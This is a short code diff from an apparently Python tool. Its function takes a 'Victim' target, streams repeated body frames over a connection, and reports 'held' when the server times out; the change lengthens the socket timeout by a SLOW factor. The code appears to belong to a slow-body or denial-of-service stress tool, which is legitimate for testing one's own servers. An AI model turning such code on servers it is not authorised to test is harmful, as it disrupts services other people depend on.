@@ -181,7 +181,7 @@ def bodies(target: Victim, seconds: float) -> Figures:
             piece = bytes(_FRAME)
             for _ in range(size // len(piece) - 1):
                 connection.send(piece)
-            connection.sock.settimeout(max(1.0, seconds))
+            connection.sock.settimeout(max(1.0, seconds) * SLOW)
             return str(connection.getresponse().status)
         except TimeoutError:
             return "held"
